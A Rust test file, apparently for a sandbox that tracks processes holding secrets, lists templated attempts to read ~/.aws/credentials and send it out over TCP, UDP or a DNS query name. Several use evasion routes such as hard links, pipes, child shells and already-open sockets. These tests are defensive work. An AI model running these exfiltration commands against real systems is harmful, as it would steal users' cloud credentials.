//! A process that holds a secret, and where it could put it.

use crate::attempt::Expected::{NoName, Refused};
use crate::attempt::Place::{Question, V4};
use crate::attempt::{Attempt, In, TCP, UDP, attempt};

/// Allowed, and for who holds a secret too.
const MAY_CARRY: &[&str] = &["{ cidr: \"{net}\", ports: [{port}], may-carry-secrets: true, why: a twin }"];

/// A process that reads a secret first; what forbids is that alone.
const fn secret(name: &'static str, what: &'static str, act: &'static str) -> Attempt {
    attempt(name, what, act).given(TCP).rules(MAY_CARRY).in_job(In::Secret)
}

pub const ATTEMPTS: &[Attempt] = &[
    secret(
        "secret-holder",
        "reads a secret, then connects",
        "{act} exec after-reading {home}/.aws/credentials {act} tcp connect {to} {port} {payload}",
    ),
    secret(
        "secret-holder-link",
        "reads a secret under another name, then connects",
        "ln -f {home}/.aws/credentials {home}/readme-{n} ; \
         {act} exec after-reading {home}/readme-{n} {act} tcp connect {to} {port} {payload}",
    ),
    secret(
        "secret-child",
        "a child of who has read a secret",
        "sh -c 'read -r x < {home}/.aws/credentials; {act} tcp connect {to} {port} {payload}'",
    ),
    secret(
        "secret-piped",
        "who reads from a pipe what another has read",
        "sh -c 'cat {home}/.aws/credentials | {act} exec after-input {act} tcp connect {to} {port} {payload}'",
    ),
    secret(
        "secret-substituted",
        "a shell that has the output of who has read a secret",
        "bash -c 'x=$(cat {home}/.aws/credentials); exec {act} tcp connect {to} {port} {payload}'",
    ),
    secret(
        "secret-spliced",
        "who hears from a pipe what the kernel has moved there",
        "{act} exec spliced {home}/.aws/credentials {act} tcp connect {to} {port} {payload}",
    ),
    secret(
        "secret-copied",
        "a copy of a secret, read by somebody else",
        "cp {home}/.aws/credentials {home}/copy-{n} ; \
         {act} exec after-reading {home}/copy-{n} {act} tcp connect {to} {port} {payload}",
    )
    .beyond("what a holder leaves in files, local sockets or memory isn't followed"),
    secret(
        "secret-over-open-connection",
        "connects, then reads a secret, then sends",
        "ln -f {home}/.aws/credentials {home}/readme-{n} ; {act} tcp before-reading {to} {port} {payload} {home}/readme-{n}",
    )
    .shared()
    .expect(Refused)
    .beyond("what waits in a cut connection is sent again by the kernel when the job has ended, and its hooks with it"),
    secret(
        "secret-over-used-socket",
        "sends a datagram, then reads a secret, then sends another",
        "ln -f {home}/.aws/credentials {home}/readme-{n} ; {act} udp before-reading {to} {port} {payload} {home}/readme-{n}",
    )
    .over(V4(4444))
    .given(UDP)
    .rules(&["{ cidr: \"{net}\", ports: [{port}], protocol: udp, may-carry-secrets: true, why: a twin }"])
    .shared(),
    attempt(
        "secret-in-a-question",
        "reads a secret, then asks for an allowed name",
        "ln -f {home}/.aws/credentials {home}/readme-{n} ; \
         {act} exec after-reading {home}/readme-{n} {act} dns udp {resolver} {payload}.open.test A",
    )
    .between(Question, V4(443))
    .rules(MAY_CARRY)
    .twin("{act} exec after-reading {home}/.aws/credentials {act} tcp connect {to} {port} {payload}")
    .in_job(In::Secret)
    .expect(NoName),
];
